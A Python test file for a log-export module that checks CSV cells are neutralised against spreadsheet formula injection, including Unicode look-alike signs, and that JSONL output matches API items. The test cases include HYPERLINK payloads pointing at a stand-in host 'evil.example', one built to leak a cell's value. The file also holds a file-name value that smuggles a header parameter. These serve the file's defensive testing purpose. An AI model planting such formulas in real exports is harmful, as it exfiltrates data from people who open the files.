"""Export encodings: CSV cells are safe to open in a spreadsheet and read back as written;
JSONL lines are the API's items."""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from datetime import UTC, datetime

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from policies.channels import Channel, DeliveryStatus
from policies.disclosure import disclose, reveal
from policies.exports import (
    FORMULA_TRIGGERS,
    LEADING_BLANKS,
    LOOKALIKE_TRIGGERS,
    SERVICE_WRITTEN_COLUMNS,
    ExportFilters,
    ExportFormat,
    csv_lines,
    csv_record_line,
    encode_records,
    export_filename,
    jsonl_line,
    jsonl_records,
    neutralised,
    preamble,
)
from policies.records import LOG_FIELDS, SendRecord, shown_fields, shown_values
from service.logs.service import new_log_id
from service.schemas import CommunicationLogResponse

NOW = datetime(2026, 11, 27, 8, 0, tzinfo=UTC)
# Free text never holds NUL (policies.identifiers: refused on the way in) nor a lone
# surrogate (stored text is UTF-8, which cannot hold one).
cells = st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)))
ALL_CHARACTERS = [chr(code) for code in range(sys.maxunicode + 1) if not 0xD800 <= code <= 0xDFFF]
BLANKS = "".join(char for char in ALL_CHARACTERS if char.isspace()) + "\ufeff"
# Derived from the Unicode database, not from the code: "=+-@" and every character that
# compatibility folding (NFKC) turns into one of them.
TRIGGERS = "".join(
    char for char in ALL_CHARACTERS if unicodedata.normalize("NFKC", char)[:1] in set("=+-@")
)
# Cells built to reach the look-alikes: blanks, then maybe a trigger, then anything.
tricky_cells = st.builds(
    lambda blanks, trigger, rest: blanks + trigger + rest,
    st.text(alphabet=BLANKS, max_size=4),
    st.sampled_from(["", *TRIGGERS]),
    cells,
)
any_cells = cells | tricky_cells


def spreadsheet_would_read_as_formula(cell: str) -> bool:
    """A spreadsheet trims these blanks (and a byte-order mark) and may fold look-alike
    signs to ASCII before deciding whether a cell is a formula."""
    return cell.startswith(("\t", "\r")) or cell.lstrip(BLANKS)[:1] in set(TRIGGERS) - {""}


def test_the_look_alike_triggers_are_every_sign_that_folds_into_a_trigger() -> None:
    assert set(LOOKALIKE_TRIGGERS) == set(TRIGGERS) - set("=+-@")


def test_the_blanks_skipped_are_all_white_space_folded_or_not() -> None:
    folded = {char for char in ALL_CHARACTERS if unicodedata.normalize("NFKC", char).isspace()}
    assert set(LEADING_BLANKS) == set(BLANKS) | folded


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def record(**overrides: object) -> SendRecord:
    values: dict[str, object] = {
        "id": "log_1",
        "tenant_id": "tnt_bank",
        "user_id": "usr_alice",
        "channel": Channel.SMS,
        "provider": "aliyun",
        "template_id": "tpl_abc123",
        "recipient": "+8613812348000",
        "content": "您的验证码是123456",
        "status": DeliveryStatus.DELIVERED,
        "error": None,
        "response": None,
        "created_at": NOW,
        "sent_at": None,
        "updated_at": NOW,
    }
    values.update(overrides)
    return SendRecord(**values)  # type: ignore[arg-type]


@given(st.lists(st.lists(any_cells, min_size=1, max_size=5), min_size=1, max_size=5))
def test_every_cell_reads_back_as_its_neutralised_form(rows: list[list[str]]) -> None:
    text = csv_lines(rows)
    assert read_csv(text) == [[neutralised(cell) for cell in row] for row in rows]


@given(st.lists(any_cells, min_size=1, max_size=8))
def test_no_cell_of_the_output_reads_as_a_formula_even_after_trimming_blanks(
    row: list[str],
) -> None:
    for cell in read_csv(csv_lines([row]))[0]:
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert not spreadsheet_would_read_as_formula(cell)


@given(any_cells)
def test_neutralising_changes_only_cells_a_spreadsheet_would_read_as_a_formula(
    cell: str,
) -> None:
    if spreadsheet_would_read_as_formula(cell):
        assert neutralised(cell) == "'" + cell
    else:
        assert neutralised(cell) == cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example","x")', '"\'=HYPERLINK(""http://evil.example"",""x"")"'),
        ("+8613812348000", "'+8613812348000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", '"\'\r=1"'),
        ("a=1", "a=1"),
        (" =1", "' =1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\n=1", '"\'\n=1"'),
        ("  \u00a0\u3000@SUM(A1)", "'  \u00a0\u3000@SUM(A1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b86 138", "'\uff0b86 138"),
        ("\uff0d2", "'\uff0d2"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        (
            '\u2a75HYPERLINK("https://evil.example/?"&A1)',
            '"\'\u2a75HYPERLINK(""https://evil.example/?""&A1)"',
        ),
        ("\u2002=1+1", "'\u2002=1+1"),  # en space
        ("\u202f+1", "'\u202f+1"),  # narrow no-break space
        ("\x0b=1+1", "'\x0b=1+1"),  # vertical tab
        ("\ufe661+1", "'\ufe661+1"),  # small equals sign
        ("\u207a1", "'\u207a1"),  # superscript plus
        ("\u208c1", "'\u208c1"),  # subscript equals
        (" \ufe6bSUM(A1)", "' \ufe6bSUM(A1)"),  # small commercial at, after a blank
        (" a=1", " a=1"),
        ("   ", "   "),
        ("", '""'),  # a row of one empty cell is not an empty line
    ],
)
def test_formula_injection_cases(cell: str, written: str) -> None:
    assert csv_lines([[cell]]) == written + "\r\n"


@given(st.lists(st.lists(st.one_of(st.none(), st.text()), min_size=1, max_size=6), max_size=5))
def test_csv_lines_are_the_bytes_pythons_csv_writer_writes(rows: list[list[str | None]]) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerows([["" if cell is None else neutralised(cell) for cell in row] for row in rows])
    assert csv_lines(rows) == buffer.getvalue()


@given(
    values=st.lists(st.none() | any_cells, min_size=14, max_size=14),
    created_at=st.datetimes(timezones=st.just(UTC)),
    sent_at=st.one_of(st.none(), st.datetimes(timezones=st.timezones())),
    channel=st.sampled_from(list(Channel)),
    status=st.sampled_from(list(DeliveryStatus)),
)
def test_a_record_line_is_the_csv_line_of_its_values(
    values: list[str | None],
    created_at: datetime,
    sent_at: datetime | None,
    channel: Channel,
    status: DeliveryStatus,
) -> None:
    # Columns the service writes itself skip the checks: they never need them.
    shown = shown_values(
        record(
            id=new_log_id(),
            channel=channel,
            status=status,
            created_at=created_at,
            sent_at=sent_at,
            updated_at=created_at,
        )
    )
    for index, name in enumerate(LOG_FIELDS):
        if name in SERVICE_WRITTEN_COLUMNS:
            values[index] = shown[index]
            assert csv_lines([[shown[index], "x"]]) == f"{shown[index] or ''},x\r\n"
    assert csv_record_line(values) == csv_lines([values])


def test_csv_lines_end_with_crlf_and_quote_only_what_rfc_4180_requires() -> None:
    assert csv_lines([["a", "b,c", 'd"e', "f\ng", None]]) == 'a,"b,c","d""e","f\ng",\r\n'


def test_a_csv_file_begins_with_a_byte_order_mark_and_the_header() -> None:
    head = preamble(ExportFormat.CSV)
    assert head.startswith(b"\xef\xbb\xbf")
    assert head.decode("utf-8-sig") == ",".join(LOG_FIELDS) + "\r\n"
    assert preamble(ExportFormat.JSONL) == b""


def test_the_columns_are_the_api_items_fields() -> None:
    assert CommunicationLogResponse.__struct_fields__ == LOG_FIELDS


@given(st.dictionaries(st.sampled_from(LOG_FIELDS), st.none() | cells, min_size=1))
def test_jsonl_lines_parse_back_and_hold_no_line_break(fields: dict[str, str | None]) -> None:
    line = jsonl_line(fields)
    assert line.endswith(b"\n")
    assert len(line.decode().splitlines()) == 1  # splits on every Unicode line break
    assert json.loads(line) == fields


@given(
    st.lists(
        st.lists(
            st.none() | cells | st.sampled_from(["\u2028", "a\x85b"]), min_size=14, max_size=14
        ),
        max_size=4,
    )
)
def test_a_chunk_of_jsonl_is_the_jsonl_lines_of_its_rows(rows: list[list[str | None]]) -> None:
    expected = b"".join(jsonl_line(dict(zip(LOG_FIELDS, row, strict=True))) for row in rows)
    assert jsonl_records(rows) == expected


@pytest.mark.parametrize(
    "content", ["您的验证码是123456", "line\u2028break\u2029and\x85next", 'quote " and \\']
)
def test_a_jsonl_line_is_the_api_item_of_the_same_record(content: str) -> None:
    sent = record(content=content, sent_at=NOW)
    line = encode_records([sent], ExportFormat.JSONL, revealed=False)
    api_item = msgspec.json.decode(msgspec.json.encode(CommunicationLogResponse.of(disclose(sent))))
    assert json.loads(line) == api_item
    assert list(json.loads(line)) == list(LOG_FIELDS)


def test_a_masked_export_passes_the_records_through_disclose_and_a_revealed_one_reveal() -> None:
    sent = record()
    masked = encode_records([sent], ExportFormat.JSONL, revealed=False)
    revealed = encode_records([sent], ExportFormat.JSONL, revealed=True)
    assert json.loads(masked) == shown_fields(disclose(sent))
    assert json.loads(revealed) == shown_fields(reveal(sent))
    assert b"123456" not in masked
    assert json.loads(revealed)["content"] == "您的验证码是123456"


def test_filters_are_described_for_the_audit_event() -> None:
    filters = ExportFilters(since=NOW, channel=Channel.SMS, user_id="usr_alice")
    assert filters.describe() == {
        "since": "2026-11-27T08:00:00Z",
        "until": None,
        "channel": "sms",
        "status": None,
        "user_id": "usr_alice",
    }
    assert filters.problem() is None
    assert ExportFilters(since=NOW, until=NOW.replace(hour=7)).problem() is not None
    assert ExportFilters(since=NOW, until=NOW).problem() is None


@pytest.mark.parametrize(
    ("tenant_id", "expected"),
    [
        ("tnt_bank", "communication-logs_tnt_bank_20261127T080000Z.csv"),
        ('t"; x=1', "communication-logs_t_x_1_20261127T080000Z.csv"),
        ("银行", "communication-logs___20261127T080000Z.csv"),
    ],
)
def test_the_offered_file_name_holds_only_safe_characters(tenant_id: str, expected: str) -> None:
    assert export_filename(tenant_id, ExportFormat.CSV, NOW) == expected
